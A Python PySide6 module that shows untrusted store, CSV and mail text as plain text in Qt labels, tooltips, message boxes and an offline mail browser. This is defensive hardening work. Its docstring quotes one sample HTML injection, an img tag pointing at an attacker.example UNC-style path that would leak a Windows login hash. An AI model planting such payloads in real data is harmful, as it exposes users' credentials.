"""Showing untrusted text (store, CSV, mail server, supplier) as text, never as rich text.

Qt renders any label, tooltip or message box text that *looks* like HTML as HTML ("AutoText"):
a customer named `<img src="//attacker.example/share/p.png">Sam` would make the app fetch that
path when a merchant hovers (on Windows a UNC path sends the login hash), and a CSV header
becomes a clickable link. Every label here is created through `PlainLabel`, every message box
through the functions below, and table tooltips go through `tooltip`.
"""

from __future__ import annotations

import html
from typing import Any

from PySide6.QtCore import Qt, QUrl
from PySide6.QtGui import Qt as GuiQt
from PySide6.QtWidgets import (
    QInputDialog,
    QLabel,
    QLineEdit,
    QMessageBox,
    QTextBrowser,
    QWidget,
)

PLAIN = Qt.TextFormat.PlainText
Button = QMessageBox.StandardButton


class PlainLabel(QLabel):
    """A QLabel that shows its text literally (Qt.TextFormat.PlainText), whatever it holds."""

    def __init__(self, text: str | QWidget | None = "", parent: QWidget | None = None) -> None:
        if isinstance(text, QWidget) or text is None:  # PlainLabel(parent), as QLabel(parent)
            text, parent = "", text
        super().__init__(parent)
        self.setTextFormat(PLAIN)
        self.setText(text)


def tooltip(text: str) -> str:
    """A tooltip that Qt shows literally: text Qt would take for HTML is escaped and wrapped
    as rich text (entities then display as the characters typed); anything else stays."""
    if GuiQt.mightBeRichText(text):
        return GuiQt.convertFromPlainText(text, Qt.WhiteSpaceMode.WhiteSpaceNormal)
    return text


def rich_escaped(text: str) -> str:
    """For widgets that always render HTML (chart titles and axis labels, QGraphicsTextItem)."""
    return html.escape(text, quote=False)


def message_box(
    parent: QWidget | None,
    icon: QMessageBox.Icon,
    title: str,
    text: str,
    buttons: Button = Button.Ok,
    default: Button = Button.NoButton,
    informative: str = "",
) -> QMessageBox:
    """A QMessageBox whose text and informative text are plain text (not shown yet)."""
    box = QMessageBox(icon, title, "", buttons, parent)
    box.setTextFormat(PLAIN)
    box.setText(text)
    if informative:
        box.setInformativeText(informative)
    for label in box.findChildren(QLabel):  # the informative text has no format setter
        label.setTextFormat(PLAIN)
    if default != Button.NoButton:
        box.setDefaultButton(default)
    return box


def inform(parent: QWidget | None, title: str, text: str) -> None:
    message_box(parent, QMessageBox.Icon.Information, title, text).exec()


def warn(parent: QWidget | None, title: str, text: str) -> None:
    message_box(parent, QMessageBox.Icon.Warning, title, text).exec()


def ask(
    parent: QWidget | None,
    title: str,
    text: str,
    buttons: Button = Button.Yes | Button.No,
    default: Button = Button.No,
) -> Button:
    """The button the user chose; `default` (the one Enter presses) is the safe answer."""
    box = message_box(parent, QMessageBox.Icon.Question, title, text, buttons, default)
    return Button(box.exec())


def ask_text(
    parent: QWidget | None,
    title: str,
    label: str,
    echo: QLineEdit.EchoMode = QLineEdit.EchoMode.Normal,
) -> tuple[str, bool]:
    """QInputDialog.getText with its prompt shown as plain text."""
    dialog = QInputDialog(parent)
    dialog.setWindowTitle(title)
    dialog.setLabelText(label)
    dialog.setTextEchoMode(echo)
    for child in dialog.findChildren(QLabel):
        child.setTextFormat(PLAIN)
    accepted = dialog.exec() == QInputDialog.DialogCode.Accepted
    return dialog.textValue(), accepted


class OfflineTextBrowser(QTextBrowser):
    """A QTextBrowser for mail HTML that loads nothing: no image, style sheet or file named in
    the HTML is fetched (`//host/share/x.png` would be a UNC path on Windows), and links are
    not followed."""

    def __init__(self, parent: QWidget | None = None) -> None:
        super().__init__(parent)
        self.setOpenLinks(False)
        self.setOpenExternalLinks(False)

    def loadResource(self, kind: int, name: QUrl) -> Any:  # noqa: N802 (Qt's name)
        return None
